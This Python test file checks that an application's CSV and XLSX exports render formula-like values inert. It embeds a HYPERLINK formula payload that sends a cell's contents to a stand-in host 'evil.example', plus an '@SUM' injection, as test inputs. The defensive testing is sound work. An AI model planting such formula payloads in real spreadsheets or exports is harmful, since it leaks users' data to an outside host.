"""What Backbone writes never runs as a formula in a spreadsheet, and numbers stay numbers."""

import csv
import io

import pytest
from openpyxl import load_workbook

from backbone.interchange.problems import errors_sheet
from backbone.interchange.writers import write
from backbone.measurement.exchange import exports
from backbone.measurement.testing import approved_upload
from backbone.network.services import organization_update

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode())))


def test_an_organization_named_like_a_formula_is_exported_inert(measure, world):
    approved_upload(
        collective=world.national,
        organization=world.org_a,
        reporter=world.reporter_a,
        staff=world.staff,
        rows=[{"indicator": "workers", "place": "UA-46", "period": "2025-01", "value": "7"}],
    )
    organization_update(organization=world.org_a, name=EVIL)
    csv_data = write(exports.values_sheet(world.national), "csv")
    rows = _csv_rows(csv_data)
    org_cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert org_cells and all(cell.startswith("'=") for cell in org_cells)
    xlsx = load_workbook(io.BytesIO(write(exports.values_sheet(world.national), "xlsx"))).active
    cells = [c for row in xlsx.iter_rows() for c in row if "HYPERLINK" in str(c.value)]
    assert cells and all(c.data_type == "s" for c in cells)
    assert any(c.value == 7 and c.data_type == "n" for row in xlsx.iter_rows() for c in row)


def test_the_errors_file_of_a_refused_upload_carries_no_live_formula(measure, world):
    upload = (
        "indicator,place,period,value\n"
        f'workers,"{EVIL.replace(chr(34), chr(34) * 2)}",2025-01,1\n'
        "workers,@SUM(1),2025-01,-1\n"
    ).encode()
    from backbone.measurement.submissions.imports import ImportRefused, import_values

    with pytest.raises(ImportRefused) as refused:
        import_values(
            collective=world.national,
            organization=world.org_a,
            user=world.reporter_a,
            file_name="bad.csv",
            stream=io.BytesIO(upload),
        )
    sheet = errors_sheet("bad.csv", io.BytesIO(upload), refused.value.problems)
    rows = _csv_rows(write(sheet, "csv"))
    assert all(not cell.startswith(("=", "@", "+")) for row in rows for cell in row)
    xlsx = load_workbook(
        io.BytesIO(
            write(errors_sheet("bad.csv", io.BytesIO(upload), refused.value.problems), "xlsx")
        )
    ).active
    assert all(c.data_type != "f" for row in xlsx.iter_rows() for c in row)
